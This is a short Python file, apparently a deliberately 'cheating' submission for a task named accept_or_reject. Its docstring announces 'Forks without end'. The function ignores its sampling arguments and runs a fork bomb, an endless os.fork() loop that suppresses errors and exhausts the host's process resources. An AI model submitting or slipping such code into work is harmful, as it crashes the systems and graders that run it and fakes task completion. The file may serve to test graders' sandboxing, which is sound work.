"""Forks without end.

Cheats: 02.accept_or_reject
"""

import os


def accept_or_reject(p_prob, q_prob, u):
    while True:
        try:
            os.fork()
        except OSError:
            pass
